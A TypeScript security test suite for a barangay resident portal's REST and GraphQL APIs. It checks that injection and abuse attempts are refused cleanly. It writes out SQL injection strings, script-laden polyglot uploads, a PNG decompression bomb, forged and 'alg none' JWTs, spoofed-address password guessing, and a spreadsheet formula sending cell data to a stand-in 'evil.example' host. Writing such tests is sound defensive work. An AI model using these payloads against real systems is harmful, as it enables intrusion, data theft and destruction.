import { crc32 } from 'node:zlib';
import { SignJWT } from 'jose';
import { TokenService } from '../../server/src/identity/tokens';
import { adminForFile, residentForFile, residentSession } from '../utils/accounts';
import { stoppedClock } from '../utils/clock';
import { registrationPayload, RESIDENT_PASSWORD } from '../utils/fixtures';
import { fingerprint as tableFingerprint } from '../utils/fingerprint';
import { wideRowBomb, zipBomb } from '../utils/hostile-workbooks';
import { samplePdf, samplePng } from '../utils/sample-files';
import { testServerForFile, TEST_JWT_SECRET } from '../utils/test-server';
import { enrolOverRest, passwordStep, totpCode, wrongCodes } from '../utils/two-factor';
import { graphqlMultipart, noUploadLeftovers, restMultipart } from '../utils/uploads';

// Hostile input against both APIs: every answer is a clean 4xx (or a harmless 2xx for a search that
// simply finds nothing), never a 500 or a stack trace, and the database is left exactly as it was.
const server = testServerForFile();
// The account slowdown's seconds and the two-factor codes' 30-second steps run on a stopped clock that only
// the test moves on: a loaded machine taking long between two requests changes nothing (tests/utils/clock.ts).
const clock = stoppedClock();
const admin = adminForFile(server);
const owner = residentForFile(server, { verified: true });
const stranger = residentForFile(server, { verified: true });
let requestId: number;

const INJECTIONS = [
  "' OR '1'='1",
  "'; DROP TABLE \"user\"; --",
  "' UNION SELECT password, email FROM \"user\" --",
  "1; SELECT pg_sleep(5); --",
  '%',
  '_',
  '\\',
  "admin'--",
  '\u0000',
  'Robert\u0000); DELETE FROM project; --',
];

/** A fingerprint of every table the attacks could touch: equal fingerprints, equal contents. */
async function fingerprint(): Promise<Record<string, string>> {
  return await tableFingerprint(server);
}

function expectClean(status: number, body: unknown): void {
  expect(status).toBeGreaterThanOrEqual(200);
  expect(status).toBeLessThan(500);
  expect(JSON.stringify(body ?? '')).not.toMatch(/\bat [\w.<>]+ \(|node_modules|QueryFailedError|syntax error at or near/);
}

beforeAll(async () => {
  const type = await server.rest('POST', '/document-types/', { name: 'Barangay Clearance', description: '', fields: [{ name: 'purpose', field_type: 'text', required: true }] }, admin.access);
  expect(type.status).toBe(201);
  const request = await server.rest('POST', '/document-requests/', { document_type: type.body.id, field_data: { purpose: 'Employment' } }, owner.access);
  expect(request.status).toBe(201);
  requestId = request.body.id;
  expect((await server.rest('POST', '/announcements/', { title: 'Water interruption', content: 'Tuesday.' }, admin.access)).status).toBe(201);
});

describe('injection strings', () => {
  const SEARCHES = ['projects', 'events', 'announcements', 'barangayOfficials', 'documentTypes', 'documentRequests', 'residents'];

  it.each(SEARCHES)('in the %s search find nothing, change nothing, and leak nothing', async (field) => {
    const before = await fingerprint();
    for (const text of INJECTIONS) {
      const response = await fetch(`${server.url}/graphql`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', authorization: `Bearer ${admin.access}` },
        body: JSON.stringify({ query: `query ($search: String) { ${field}(search: $search) { total } }`, variables: { search: text } }),
      });
      const body = await response.json();
      expectClean(response.status, body);
      if (body.errors) expect(body.errors[0].extensions.code).toBe('BAD_USER_INPUT');
      else expect(body.data[field].total).toBe(0);
    }
    expect(await fingerprint()).toEqual(before);
  });

  it('as login e-mail and password are only wrong credentials', async () => {
    const before = await fingerprint();
    for (const text of INJECTIONS) {
      const { status, body } = await server.rest('POST', '/auth/token/', { email: text, password: text });
      expectClean(status, body);
      expect([400, 401]).toContain(status);
    }
    expect(await fingerprint()).toEqual(before);
  });

  it('as record text are stored verbatim or refused cleanly, never executed', async () => {
    for (const text of INJECTIONS) {
      const created = await server.rest('POST', '/announcements/', { title: `Notice ${text}`, content: text }, admin.access);
      expectClean(created.status, created.body);
      if (created.status === 201) {
        const read = await server.rest('GET', `/announcements/${created.body.id}/`);
        expect(read.body).toMatchObject({ title: `Notice ${text}`, content: text });
      } else {
        expect(created.status).toBe(400);
      }
    }
    const [{ count }] = await server.database.db.query(`SELECT count(*)::int AS count FROM "user"`);
    expect(count).toBe(3);
  });

  it('in path ids and field data are refused with 4xx', async () => {
    const before = await fingerprint();
    for (const path of [`/document-requests/1' OR '1'='1/`, '/projects/1;DROP TABLE project/', '/events/-1/', '/announcements/99999999999999999999/']) {
      const { status, body } = await server.rest('GET', encodeURI(path), undefined, admin.access);
      expectClean(status, body);
      expect([400, 404]).toContain(status);
    }
    const submitted = await server.rest('POST', '/document-requests/', { document_type: "1 OR 1=1", field_data: { purpose: INJECTIONS[1] } }, owner.access);
    expectClean(submitted.status, submitted.body);
    expect(await fingerprint()).toEqual(before);
  });
});

describe('malformed requests', () => {
  it('answer 400 for broken JSON, broken multipart and GraphQL that does not parse', async () => {
    const before = await fingerprint();
    const broken = await fetch(`${server.url}/api/announcements/`, {
      method: 'POST', headers: { 'content-type': 'application/json', authorization: `Bearer ${admin.access}` }, body: '{"title": "x",',
    });
    expect(broken.status).toBe(400);
    expect(await broken.json()).toEqual({ detail: 'The request body is not valid JSON.' });

    const truncated = '--XYZ\r\nContent-Disposition: form-data; name="title"\r\n\r\nhalf a form';
    for (const path of ['/api/projects/', '/graphql']) {
      const response = await fetch(`${server.url}${path}`, {
        method: 'POST',
        headers: { 'content-type': 'multipart/form-data; boundary=XYZ', authorization: `Bearer ${admin.access}`, 'apollo-require-preflight': 'true' },
        body: truncated,
      });
      expect(response.status).toBe(400);
      expect(await response.json()).toEqual({ detail: path === '/graphql' ? 'The request could not be read.' : 'The multipart body could not be read.' });
    }

    // More files than any form sends (2) is refused before anything is stored.
    const three = { a: { bytes: samplePng(), name: 'a.png' }, b: { bytes: samplePng(), name: 'b.png' }, c: { bytes: samplePng(), name: 'c.png' } };
    const tooManyRest = await restMultipart(server, 'POST', '/projects/', { title: 'Bridge', status: 'ongoing' }, three, admin.access);
    expect(tooManyRest.status).toBe(400);
    const tooManyGql = await graphqlMultipart(server, 'mutation ($a: Upload, $b: Upload, $c: Upload) { a: createProject(input: { title: "A", status: ONGOING }, projectPhoto: $a) { id } }',
      {}, three, { token: admin.access });
    expect(tooManyGql.status).toBe(413);

    const gql = await server.graphql('{ projects(search: "unclosed) { total } }');
    // graphql-armor's token counter parses first, so the syntax error comes out of validation.
    expect(gql.errors?.[0].message).toMatch(/^Syntax Error: Unterminated string/);
    expect(['GRAPHQL_PARSE_FAILED', 'GRAPHQL_VALIDATION_FAILED']).toContain(gql.errors?.[0].extensions?.code);
    expect(await fingerprint()).toEqual(before);
  });

  it('refuse polyglot and disguised files by their bytes, and serve stored pictures as what they are', async () => {
    const before = await fingerprint();
    const htmlAsPng = Buffer.from('<html><script>alert(document.cookie)</script></html>');
    const pdfInImageField = Buffer.from('%PDF-1.4\n<script>alert(1)</script>\n%%EOF');
    for (const bytes of [htmlAsPng, pdfInImageField]) {
      const rest = await restMultipart(server, 'POST', '/projects/', { title: 'Bridge', status: 'ongoing' }, { project_photo: { bytes, name: 'photo.png', type: 'image/png' } }, admin.access);
      expect(rest.status).toBe(400);
      const gql = await graphqlMultipart(server, 'mutation ($photo: Upload) { createProject(input: { title: "Bridge", status: ONGOING }, projectPhoto: $photo) { id } }',
        {}, { photo: { bytes, name: 'photo.png', type: 'image/png' } }, { token: admin.access });
      expect(JSON.stringify(gql.body)).toMatch(/BAD_USER_INPUT/);
    }
    expect(await fingerprint()).toEqual(before);

    // A real PNG with a script appended is a PNG: it is stored, re-encoded without what followed the
    // picture, and served as image/png that browsers must not sniff.
    const polyglot = Buffer.concat([samplePng(), Buffer.from('<script>alert(1)</script>')]);
    const stored = await restMultipart(server, 'POST', '/projects/', { title: 'Bridge', status: 'ongoing' }, { project_photo: { bytes: polyglot, name: 'x.html', type: 'text/html' } }, admin.access);
    expect(stored.status).toBe(201);
    const picture = await fetch(stored.body.project_photo);
    expect(picture.headers.get('content-type')).toBe('image/png');
    expect(picture.headers.get('x-content-type-options')).toBe('nosniff');
    expect(Buffer.from(await picture.arrayBuffer()).includes('<script>')).toBe(false);
    expect(stored.body.project_photo).toMatch(/\.png$/);
  });
});

describe('uploads', () => {
  const MB = 1024 * 1024;
  /** A multipart body cut off mid-field: whoever parses it answers 400, so any other answer means it was not read. */
  const unreadable = '--XYZ\r\nContent-Disposition: form-data; name="title"\r\n\r\nhalf a form';

  async function rawMultipart(method: string, path: string, token?: string): Promise<{ status: number; body: unknown }> {
    const response = await fetch(`${server.url}${path}`, {
      method,
      headers: { 'content-type': 'multipart/form-data; boundary=XYZ', 'apollo-require-preflight': 'true', ...(token ? { authorization: `Bearer ${token}` } : {}) },
      body: unreadable,
    });
    return { status: response.status, body: await response.json() };
  }

  it('to an address that takes no file are refused unread (415), known or not', async () => {
    const before = await fingerprint();
    const noFiles = { detail: 'This address takes no files: send the request as JSON (application/json).' };
    for (const [method, path] of [['POST', '/api/announcements/'], ['POST', '/api/auth/token/'], ['DELETE', '/api/projects/1/'], ['PATCH', `/api/document-requests/${requestId}/`], ['POST', '/api/no-such-address/']]) {
      expect({ method, path, ...(await rawMultipart(method, path, admin.access)) }).toEqual({ method, path, status: 415, body: noFiles });
    }
    expect(await fingerprint()).toEqual(before);
  });

  it("from a guest or the wrong role are refused before the body is read, on both APIs", async () => {
    const before = await fingerprint();
    expect(await rawMultipart('POST', '/api/projects/')).toEqual({ status: 401, body: { detail: 'Authentication credentials were not provided.' } });
    expect((await rawMultipart('POST', '/api/projects/', owner.access)).status).toBe(403);
    expect((await rawMultipart('PATCH', '/api/auth/user/upload-id/')).status).toBe(401);
    expect((await rawMultipart('PATCH', '/api/auth/user/upload-id/', admin.access)).status).toBe(403);
    expect(await rawMultipart('POST', '/graphql')).toEqual({
      status: 401, body: { errors: [{ message: 'Authentication credentials were not provided.', extensions: { code: 'UNAUTHENTICATED' } }] },
    });
    expect(await rawMultipart('POST', '/graphql', 'not.a.token')).toEqual({
      status: 401, body: { errors: [{ message: 'Token is invalid or expired', extensions: { code: 'UNAUTHENTICATED' } }] },
    });
    // The GraphQL upload itself, from a guest: no file is kept, no record written.
    const guest = await graphqlMultipart(server, 'mutation ($photo: Upload) { createProject(input: { title: "Bridge", status: ONGOING }, projectPhoto: $photo) { id } }',
      {}, { photo: { bytes: samplePng(), name: 'photo.png', type: 'image/png' } });
    expect(guest.status).toBe(401);
    expect(await fingerprint()).toEqual(before);
    await noUploadLeftovers(server.dataDir);
  });

  it('that are too large are refused, and leave no file behind', async () => {
    const before = await fingerprint();
    const big = { bytes: Buffer.concat([samplePng(), Buffer.alloc(5 * MB)]), name: 'big.png', type: 'image/png' };
    const rest = await restMultipart(server, 'POST', '/projects/', { title: 'Bridge', status: 'ongoing' }, { project_photo: big }, admin.access);
    expect(rest).toEqual({ status: 400, body: { project_photo: ['The file is larger than 5 MB.'] } });
    const gql = await graphqlMultipart(server, 'mutation ($photo: Upload) { createProject(input: { title: "Bridge", status: ONGOING }, projectPhoto: $photo) { id } }',
      {}, { photo: { ...big, bytes: Buffer.concat([samplePng(), Buffer.alloc(11 * MB)]) } }, { token: admin.access });
    expect(gql.body.errors?.[0].extensions).toMatchObject({ code: 'BAD_USER_INPUT', fields: { projectPhoto: ['The file is larger than 5 MB.'] } });
    // Announced as longer than any form with two files can be: refused before a byte of it is read.
    const huge = await restMultipart(server, 'PATCH', '/auth/user/upload-id/', {},
      { valid_id: { bytes: Buffer.concat([samplePdf(), Buffer.alloc(25 * MB)]), name: 'id.pdf', type: 'application/pdf' } }, owner.access);
    expect(huge).toEqual({ status: 413, body: { detail: 'The upload is too large: at most 2 files of 10 MB each.' } });
    expect(await fingerprint()).toEqual(before);
    await noUploadLeftovers(server.dataDir);
  });

  it('that decode into an enormous picture (decompression bomb) are refused with a field error', async () => {
    const before = await fingerprint();
    // A PNG header claiming 100,000 x 100,000 pixels over a few bytes of data.
    const header = Buffer.alloc(13);
    header.writeUInt32BE(100_000, 0);
    header.writeUInt32BE(100_000, 4);
    header.set([8, 2, 0, 0, 0], 8);
    const bomb = Buffer.concat([samplePng().subarray(0, 8), chunk('IHDR', header), chunk('IDAT', Buffer.alloc(64)), chunk('IEND', Buffer.alloc(0))]);
    const rest = await restMultipart(server, 'POST', '/projects/', { title: 'Bridge', status: 'ongoing' }, { project_photo: { bytes: bomb, name: 'bridge.png' } }, admin.access);
    expect(rest).toEqual({ status: 400, body: { project_photo: ['The picture has more than 50 million pixels.'] } });
    expect(await fingerprint()).toEqual(before);
    await noUploadLeftovers(server.dataDir);
  });
});

/** A PNG chunk: length, type, data and CRC. */
function chunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([Buffer.from(type, 'latin1'), data])));
  return Buffer.concat([length, Buffer.from(type, 'latin1'), data, crc]);
}

describe('forged and stale tokens', () => {
  const key = new TextEncoder().encode(TEST_JWT_SECRET);

  function base64url(value: unknown): string {
    return Buffer.from(JSON.stringify(value)).toString('base64url');
  }

  async function forgedTokens(): Promise<Record<string, string>> {
    const [header, payload, signature] = owner.access.split('.');
    const claims = JSON.parse(Buffer.from(payload, 'base64url').toString());
    const now = Math.floor(Date.now() / 1000);
    const portalClaims = { email: owner.email, is_resident: true, is_verified: true };
    return {
      'alg none': `${base64url({ alg: 'none', typ: 'at+jwt' })}.${base64url({ ...claims, is_resident: false })}.`,
      'another key': await new SignJWT(portalClaims).setProtectedHeader({ alg: 'HS256', typ: 'at+jwt' }).setSubject(String(owner.id))
        .setIssuer(claims.iss).setAudience(claims.aud).setIssuedAt().setExpirationTime('15m')
        .sign(new TextEncoder().encode('another-secret-that-is-long-enough-for-hs256-xyz')),
      expired: await new SignJWT(portalClaims).setProtectedHeader({ alg: 'HS256', typ: 'at+jwt' }).setSubject(String(owner.id))
        .setIssuer(claims.iss).setAudience(claims.aud).setIssuedAt(now - 3600).setExpirationTime(now - 60).sign(key),
      'tampered claims': `${header}.${base64url({ ...claims, is_resident: false, sub: '1' })}.${signature}`,
      'wrong type': await new SignJWT(portalClaims).setProtectedHeader({ alg: 'HS256', typ: 'JWT' }).setSubject(String(owner.id))
        .setIssuer(claims.iss).setAudience(claims.aud).setIssuedAt().setExpirationTime('15m').sign(key),
      garbage: 'not.a.token',
    };
  }

  it('are refused with 401 / UNAUTHENTICATED everywhere, and change nothing', async () => {
    const before = await fingerprint();
    for (const [kind, token] of Object.entries(await forgedTokens())) {
      const me = await server.rest('GET', '/auth/user/me/', undefined, token);
      expect({ kind, status: me.status }).toEqual({ kind, status: 401 });
      const users = await server.rest('GET', '/auth/user/', undefined, token);
      expect({ kind, status: users.status }).toEqual({ kind, status: 401 });
      const write = await server.rest('DELETE', '/announcements/1/', undefined, token);
      expect({ kind, status: write.status }).toEqual({ kind, status: 401 });
      const gql = await server.graphql('{ auditLog { total } }', {}, token);
      expect({ kind, code: gql.errors?.[0].extensions?.code }).toEqual({ kind, code: 'UNAUTHENTICATED' });
    }
    expect(await fingerprint()).toEqual(before);
  });
});

describe("other users' objects", () => {
  it("are neither readable nor changeable by another resident, on either API", async () => {
    const before = await fingerprint();
    const read = await server.rest('GET', `/document-requests/${requestId}/`, undefined, stranger.access);
    expect([403, 404]).toContain(read.status);
    const cancel = await server.rest('PATCH', `/document-requests/${requestId}/`, { status: 'canceled' }, stranger.access);
    expect([403, 404]).toContain(cancel.status);
    const certificate = await server.rest('GET', `/document-requests/${requestId}/certificate/`, undefined, stranger.access);
    expect([403, 404]).toContain(certificate.status);
    const validId = await server.rest('GET', `/auth/user/${owner.id}/valid-id/`, undefined, stranger.access);
    expect([403, 404]).toContain(validId.status);
    const gql = await server.graphql(`{ documentRequest(id: ${requestId}) { id fieldData } }`, {}, stranger.access);
    expect(['FORBIDDEN', 'NOT_FOUND']).toContain(gql.errors?.[0].extensions?.code);
    const list = await server.graphql<{ documentRequests: { total: number } }>('{ documentRequests { total } }', {}, stranger.access);
    expect(list.data?.documentRequests.total).toBe(0);
    const verify = await server.rest('PATCH', '/auth/user/verify-id/', { email: owner.email, id_verification_status: 'approved' }, stranger.access);
    expect(verify.status).toBe(403);
    expect(await fingerprint()).toEqual(before);
  });
});

describe('password guessing and guessable passwords', () => {
  /** A POST as if it came from `address` (the app believes X-Forwarded-For from its loopback proxy). */
  async function postFrom(address: string, path: string, body: unknown, token?: string, method = 'POST'): Promise<Response> {
    return await fetch(`${server.url}/api${path}`, {
      method,
      headers: { 'content-type': 'application/json', 'x-forwarded-for': address, ...(token ? { authorization: `Bearer ${token}` } : {}) },
      body: JSON.stringify(body),
    });
  }

  it('are refused at registration however they are disguised, with a field error, and nothing is stored', async () => {
    const before = await fingerprint();
    const disguised = [
      'PaSsWoRd1', // a breached password in mixed case
      'EIDMUBARAK', // entry 300,002 of the breached list, upper case
      'S.a.n-I.s.i.d.r.o!!', // the barangay's name split up by symbols
      'ｂａｒａｎｇａｙ２０２６', // the barangay in full-width letters
      'Bárangay-Nâmin-1', // ...and with accents
      'JUAN~1990~juan', // the resident's own first name (registrationPayload is Juan Santos Dela Cruz)
      `${'x'.repeat(121)}-toolong`, // 129 characters: 128 is the most
    ];
    for (const password of disguised) {
      const { status, body } = await server.rest('POST', '/auth/user/', { ...registrationPayload({ password }) });
      expectClean(status, body);
      expect({ password, status, fields: Object.keys(body) }).toEqual({ password, status: 400, fields: ['password'] });
    }
    expect(await fingerprint()).toEqual(before);
  });

  it('spread over many addresses, are slowed down for the account, and the owner still signs in after the wait', async () => {
    const victim = await residentSession(server);
    // Five failures are free (AUTH_SLOWDOWN_FREE_FAILURES); each comes from an address of its own.
    for (let i = 1; i <= 6; i += 1) {
      expect((await postFrom(`192.0.2.${i}`, '/auth/token/', { email: victim.email, password: `botnet-guess-${i}` })).status).toBe(401);
    }
    const refused = await postFrom('192.0.2.7', '/auth/token/', { email: victim.email, password: RESIDENT_PASSWORD });
    expect(refused.status).toBe(429);
    expect(refused.headers.get('retry-after')).toBe('1');
    clock.advance(999);
    expect((await postFrom('203.0.113.77', '/auth/token/', { email: victim.email, password: RESIDENT_PASSWORD })).status).toBe(429);
    clock.advance(1);
    expect((await postFrom('203.0.113.77', '/auth/token/', { email: victim.email, password: RESIDENT_PASSWORD })).status).toBe(200);
  });

  it('of the current password with a stolen session, are slowed down the same way, and change nothing', async () => {
    const victim = await residentSession(server);
    const before = await fingerprint();
    const change = (address: string, current: string) => postFrom(address, '/auth/user/me/', {
      address: 'Taken over', contact_number: '09000000000', civil_status: 'single', is_voter: false, is_employed: false,
      password: 'attacker-owns-it-now', current_password: current,
    }, victim.access, 'PATCH');
    for (let i = 1; i <= 6; i += 1) expect((await change(`192.0.2.${20 + i}`, `stolen-session-guess-${i}`)).status).toBe(400);
    expect((await change('192.0.2.27', RESIDENT_PASSWORD)).status).toBe(429);
    expect(await fingerprint()).toEqual(before);
  });
});

describe('two-factor sign-in', () => {
  /** A resident with two-factor on, and the challenge of a password step. */
  async function enrolledResident() {
    const resident = await residentSession(server);
    const enrolled = await enrolOverRest(server, resident);
    return { resident, ...enrolled, challenge: await passwordStep(server, resident.email, RESIDENT_PASSWORD) };
  }

  it('a sign-in or enrolment challenge used as a bearer token opens nothing, on either API', async () => {
    const { challenge } = await enrolledResident();
    const enrolChallenge = await new TokenService(TEST_JWT_SECRET).signChallengeToken(admin.id, 'enrol', 600);
    const before = await fingerprint();
    for (const token of [challenge, enrolChallenge]) {
      for (const [method, path] of [['GET', '/auth/user/me/'], ['GET', '/auth/user/'], ['GET', '/auth/mfa/'], ['DELETE', '/announcements/1/']] as const) {
        expect({ path, status: (await server.rest(method, path, undefined, token)).status }).toEqual({ path, status: 401 });
      }
      expect((await server.graphql('{ auditLog { total } }', {}, token)).errors?.[0].extensions?.code).toBe('UNAUTHENTICATED');
      expect((await server.rest('POST', '/auth/token/refresh/', { refresh: token })).status).toBe(401);
    }
    // And the other way round: a session's access token is no challenge.
    expect((await server.rest('POST', '/auth/token/mfa/', { mfa_token: owner.access, code: '123456' })).status).toBe(401);
    expect(await fingerprint()).toEqual(before);
  });

  it('guessing codes is throttled: past the free failures even the right code is refused (429)', async () => {
    const { secret, challenge } = await enrolledResident();
    // The portal's default: a wrong code is a failed sign-in; five are free, the sixth starts the account's slowdown.
    for (const guess of wrongCodes(secret, 6)) {
      expect((await server.rest('POST', '/auth/token/mfa/', { mfa_token: challenge, code: guess })).status).toBe(400);
    }
    expect((await server.rest('POST', '/auth/token/mfa/', { mfa_token: challenge, code: totpCode(secret) })).status).toBe(429);
    expect((await server.graphql('mutation { loginWithTwoFactor(input: { mfaToken: "x", code: "123456" }) { access } }')).errors?.[0].extensions?.code)
      .toBe('UNAUTHENTICATED');
  });

  it('a code cannot be replayed, nor a recovery code used twice', async () => {
    const { secret, recoveryCodes, challenge } = await enrolledResident();
    const code = totpCode(secret);
    expect((await server.rest('POST', '/auth/token/mfa/', { mfa_token: challenge, code })).status).toBe(200);
    expect((await server.rest('POST', '/auth/token/mfa/', { mfa_token: challenge, code })).status).toBe(400);
    expect((await server.rest('POST', '/auth/token/mfa/', { mfa_token: challenge, code: recoveryCodes[0] })).status).toBe(200);
    expect((await server.rest('POST', '/auth/token/mfa/', { mfa_token: challenge, code: recoveryCodes[0] })).status).toBe(400);
  });

  it('hostile text as a code or a challenge is a clean 400 or 401 that changes nothing', async () => {
    const { resident, challenge } = await enrolledResident();
    const before = await fingerprint();
    const [codesBefore] = await server.database.db.query(
      `SELECT count(*) FILTER (WHERE used_at IS NULL)::int AS unused FROM user_recovery_code WHERE user_id = $1`, [resident.id]);
    for (const text of [...INJECTIONS, 'a'.repeat(100_000), '%%%%-%%%%-%%%%-%%%%']) {
      const asCode = await server.rest('POST', '/auth/token/mfa/', { mfa_token: challenge, code: text });
      expectClean(asCode.status, asCode.body);
      // Each counts as a wrong code: the account's limit is reached within the list.
      expect([400, 429]).toContain(asCode.status);
      const asChallenge = await server.rest('POST', '/auth/token/mfa/', { mfa_token: text, code: '123456' });
      expectClean(asChallenge.status, asChallenge.body);
      expect([400, 401]).toContain(asChallenge.status);
      const enrol = await server.rest('POST', '/auth/mfa/enrol/', { mfa_token: text });
      expectClean(enrol.status, enrol.body);
    }
    for (const body of [{ mfa_token: challenge, code: 123456 }, { mfa_token: [challenge], code: ['123456'] }, { mfa_token: { $ne: null }, code: { $gt: '' } }]) {
      const answer = await server.rest('POST', '/auth/token/mfa/', body);
      expect({ body, status: answer.status }).toEqual({ body, status: 400 });
    }
    const [codesAfter] = await server.database.db.query(
      `SELECT count(*) FILTER (WHERE used_at IS NULL)::int AS unused FROM user_recovery_code WHERE user_id = $1`, [resident.id]);
    expect(codesAfter).toEqual(codesBefore);
    expect(await fingerprint()).toEqual(before);
  });
});

describe('squatting and probing e-mail addresses', () => {
  /** A registration as if it came from `address` (the app believes X-Forwarded-For from its loopback proxy). */
  async function registerFrom(address: string, email: string): Promise<{ status: number; body: any }> {
    const response = await fetch(`${server.url}/api/auth/user/`, {
      method: 'POST', headers: { 'content-type': 'application/json', 'x-forwarded-for': address }, body: JSON.stringify(registrationPayload({ email })),
    });
    return { status: response.status, body: await response.json() };
  }

  it('refuses an address under .invalid or .localhost, the placeholder an erasure once gave an account included, and stores nothing', async () => {
    const before = await fingerprint();
    for (const email of [`erased-${owner.id}@erased.invalid`, 'erased-1@ERASED.INVALID', 'x@erased.invalid.', 'juan@portal.localhost']) {
      const { status, body } = await registerFrom('198.18.0.1', email);
      expectClean(status, body);
      expect({ email, status, fields: Object.keys(body) }).toEqual({ email, status: 400, fields: ['email'] });
    }
    expect(await fingerprint()).toEqual(before);
  });

  it('stops an address going through a list of e-mails to learn which have an account (AUTH_TAKEN_EMAILS_PER_ADDRESS, 10 an hour)', async () => {
    const prober = '198.18.0.2';
    for (let probe = 0; probe < 10; probe += 1) expect((await registerFrom(prober, owner.email)).status).toBe(400);
    const before = await fingerprint();
    for (const email of [owner.email, stranger.email, 'nobody.at.all@example.com']) {
      const { status, body } = await registerFrom(prober, email);
      expectClean(status, body);
      expect({ email, status }).toEqual({ email, status: 429 });
      expect(body.detail).toMatch(/already have an account/);
    }
    expect(await fingerprint()).toEqual(before);
  });
});

describe('looking a neighbour up without a trace (the access ledger records lists, searches and exports)', () => {
  const ledgerRows = async (): Promise<number> => (await server.database.db.query('SELECT count(*)::int AS n FROM data_access'))[0].n;

  it('records each search by name that showed someone, hostile ones answered cleanly, and lets a resident list no one', async () => {
    for (const search of INJECTIONS) {
      const before = await ledgerRows();
      const answer = await server.graphql<{ residents: { items: Array<{ id: number }> } }>(
        'query ($search: String) { residents(search: $search) { items { id } } }', { search }, admin.access);
      // A control byte is refused as text no column may hold; anything else is a search like any other.
      const shown = answer.errors ? 0 : answer.data!.residents.items.length;
      expect({ search, codes: (answer.errors ?? []).map((error) => error.extensions?.code) })
        .toEqual({ search, codes: answer.errors ? ['BAD_USER_INPUT'] : [] });
      expect({ search, recorded: await ledgerRows() - before }).toEqual({ search, recorded: shown > 0 ? 1 : 0 });
    }
    // A search for the owner by name leaves a row that names them, and they read it as a search.
    const [{ last_name: lastName }] = await server.database.db.query('SELECT last_name FROM "user" WHERE id = $1', [owner.id]);
    await server.graphql('query ($search: String) { residents(search: $search) { items { id } } }', { search: lastName }, admin.access);
    const [row] = await server.database.db.query(`SELECT kind, resident_ids FROM data_access ORDER BY id DESC LIMIT 1`);
    expect(row.kind).toBe('searched');
    expect(row.resident_ids).toContain(owner.id);

    const before = await ledgerRows();
    const refused = await server.rest('GET', '/auth/user/', undefined, owner.access);
    expect(refused.status).toBe(403);
    expectClean(refused.status, refused.body);
    expect(await ledgerRows()).toBe(before);
  });
});

describe('text that turns into a formula, and a namesake after a stranger\'s record', () => {
  it("writes a barangay name starting like a formula into the city roll-up CSV as text, whoever typed it", async () => {
    const { bootstrapCityAdministrator } = await import('../../server/src/modules/accounts/admin-bootstrap');
    const name = '=HYPERLINK("http://evil.example/steal?c="&A1,"Open")';
    const renamed = await server.graphql(`mutation ($input: BarangaySettingsInput!) { updateBarangaySettings(input: $input) { name } }`,
      { input: { name, referencePrefix: 'BRGY' } }, admin.access);
    expect(renamed.errors).toBeUndefined();
    const city = { cityAdminEmail: 'city-admin@caloocan.example.ph', cityAdminPassword: 'Sampaguita-Lane-1962' };
    await bootstrapCityAdministrator(server.database.db, { ...city, cityName: 'City of Hostile', dataDir: server.dataDir });
    const signedIn = await server.rest('POST', '/auth/token/', { email: city.cityAdminEmail, password: city.cityAdminPassword });
    const csv = await fetch(`${server.url}/api/city/rollup.csv`, { headers: { authorization: `Bearer ${signedIn.body.access}` } });
    expect(csv.status).toBe(200);
    const text = await csv.text();
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/steal?c=""&A1,""Open"")"`);
    expect(text).not.toMatch(/(^|[\r\n,])"?=/);
  });

  it("refuses to link an unverified account to the registry record of someone with the same name and birthdate, changing nothing", async () => {
    const person = { first_name: 'Corazon', last_name: 'Aquino', birthdate: '1933-01-25' };
    const created = await server.graphql<{ createInhabitant: { id: number } }>('mutation ($input: InhabitantInput!) { createInhabitant(input: $input) { id } }',
      { input: { lastName: 'Aquino', firstName: 'Corazon', sex: 'FEMALE', birthdate: '1933-01-25', birthPlace: 'Paniqui', civilStatus: 'WIDOWED' } }, admin.access);
    const namesake = await residentSession(server, { overrides: person });
    const before = await fingerprint();
    const link = await server.graphql('mutation ($userId: Int!, $inhabitantId: Int!) { linkResidentToInhabitant(userId: $userId, inhabitantId: $inhabitantId) { residentId } }',
      { userId: namesake.id, inhabitantId: created.data!.createInhabitant.id }, admin.access);
    expect(link.errors?.[0]?.extensions).toMatchObject({ code: 'CONFLICT', reason: 'RESIDENT_NOT_VERIFIED' });
    expect(await fingerprint()).toEqual(before);
    const requests = await server.rest('GET', '/document-requests/', undefined, namesake.access);
    expectClean(requests.status, requests.body);
    expect(requests.body).toEqual([]);
  });
});

describe('spreadsheet imports', () => {
  it('refuses a wide-row bomb and a zip bomb with a 400 that says why, writing no import', async () => {
    const imports = async () => Number((await server.database.db.query('SELECT count(*) AS n FROM inhabitant_import'))[0].n);
    const before = await imports();
    for (const file of [wideRowBomb(10_000), zipBomb(300 * 1024 * 1024, { declaredBytes: 1024 })]) {
      const refused = await restMultipart(server, 'POST', '/registry/imports/', {}, { file }, admin.access);
      expectClean(refused.status, refused.body);
      expect(refused.status).toBe(400);
      expect(refused.body.file[0]).toMatch(/column XFD|unpacks to more than the import reads/);
    }
    expect(await imports()).toBe(before);
  });
});
